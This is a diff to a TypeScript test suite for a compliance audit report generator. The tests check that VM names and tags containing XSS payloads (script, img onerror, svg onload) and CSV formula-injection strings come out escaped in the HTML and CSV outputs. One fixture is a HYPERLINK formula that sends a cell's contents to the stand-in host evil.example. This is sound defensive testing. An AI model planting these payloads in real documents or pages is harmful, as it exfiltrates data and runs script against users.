@@ -16,6 +16,8 @@ import { inkStats, printToPdf, renderInChromium, visibleText } from './support/c
  */
 const HOSTILE_HTML = `<script>document.title='pwned'</script><img src=x onerror="document.title='pwned'">app-2`;
 const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"batch-1")';
+const HOSTILE_TAG = '<svg onload="document.title=1">';
+const FORMULA_TAG = '+SUM(1+1)';
 
 let lake: LakeFixture;
 let outDir: string;
@@ -27,7 +29,9 @@ beforeAll(async () => {
   lake = await createLakeFixture();
   const inventory = path.join(lake.dir, 'inventory.yaml');
   const original = await readFile(path.join(SAMPLE_REFERENCE, 'inventory.yaml'), 'utf8');
-  await writeFile(inventory, original.replace('vm_name: app-2', `vm_name: ${JSON.stringify(HOSTILE_HTML)}`).replace('vm_name: batch-1', `vm_name: ${JSON.stringify(HOSTILE_FORMULA)}`));
+  await writeFile(inventory, original
+    .replace('vm_name: app-2', `vm_name: ${JSON.stringify(HOSTILE_HTML)}`)
+    .replace(/(vm_name: "<script>[^\n]*\n(?:.*\n)*?\s+tags: \[vm, app)\]/, `$1, ${JSON.stringify(HOSTILE_TAG)}, ${JSON.stringify(FORMULA_TAG)}]`).replace('vm_name: batch-1', `vm_name: ${JSON.stringify(HOSTILE_FORMULA)}`));
   await deliverSamples({ store: lake.store });
   const configFile = path.join(lake.dir, 'netflow.config.yaml');
   await writeFile(
@@ -104,6 +108,7 @@ describe('compliance audit report', () => {
 
   test('top offenders and evidence samples lead back to the raw records', () => {
     expect(report.top_offenders[0]).toMatchObject({ src_ip: '10.0.2.11', vm_name: HOSTILE_HTML, violations: 10, rules: ['sql-only-from-app-1'] });
+    expect(report.top_offenders[0]!.tags).toEqual(expect.arrayContaining([HOSTILE_TAG, FORMULA_TAG, 'vm', 'app']));
     expect(report.top_offenders[1]).toMatchObject({ src_ip: '10.0.5.20', vm_name: HOSTILE_FORMULA, violations: 3 });
     const sql = report.evidence.filter((e) => e.rule_id === 'sql-only-from-app-1');
     expect(sql).toHaveLength(5);
@@ -128,6 +133,8 @@ describe('compliance audit report', () => {
     const csv = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16-offenders.csv'), 'utf8');
     const cells = parseCsv(csv).flat();
     expect(cells).toContain(`'${HOSTILE_FORMULA}`);
+    // Tags are joined with ';' in one cell, sorted: the formula-looking tag comes first and is escaped.
+    expect(cells.some((cell) => cell.startsWith(`'${FORMULA_TAG};`))).toBe(true);
     expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
     for (const name of ['coverage', 'rules', 'evidence', 'inputs', 'summary', 'trend']) {
       const all = parseCsv(await readFile(path.join(outDir, `compliance-2024-05-01T12_2024-05-01T16-${name}.csv`), 'utf8')).flat();
@@ -139,6 +146,8 @@ describe('compliance audit report', () => {
     const html = await readFile(path.join(outDir, 'compliance-2024-05-01T12_2024-05-01T16.html'), 'utf8');
     expect(html).not.toContain('<script');
     expect(html).not.toContain('<img');
+    expect(html).toContain('&lt;svg onload=&quot;document.title=1&quot;&gt;');
+    expect(html.match(/<svg /g)?.length).toBe(2);
     expect(html).toContain('&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;');
     expect(html).toContain("Content-Security-Policy\" content=\"default-src 'none'");
     expect(html).toMatch(/@media print/);
@@ -153,7 +162,8 @@ describe('compliance audit report', () => {
     const stat = (id: string) => new RegExp(`id="${id}"><div class="value">([^<]*)</div>`).exec(dom)?.[1];
     expect([stat('hours-expected'), stat('hours-published'), stat('hours-late'), stat('hours-failed'), stat('hours-missing'), stat('flows'), stat('violations'), stat('alerts')]).toEqual(['5', '2', '2', '1', '2', '857', '16', '5']);
     const text = visibleText(dom);
-    for (const needle of ['sql-only-from-app-1', '10.0.2.11', HOSTILE_HTML, HOSTILE_FORMULA, 'failed', 'missing', report.rules_in_force.current.sha256, report.inputs[0]!.sha256]) expect(text).toContain(needle);
+    expect(dom.match(/<svg /g)?.length).toBe(2);
+    for (const needle of ['sql-only-from-app-1', '10.0.2.11', HOSTILE_HTML, HOSTILE_FORMULA, HOSTILE_TAG, FORMULA_TAG, 'failed', 'missing', report.rules_in_force.current.sha256, report.inputs[0]!.sha256]) expect(text).toContain(needle);
     const ink = inkStats(png);
     expect(ink.width).toBe(1280);
     expect(ink.inked).toBeGreaterThan(0.03);
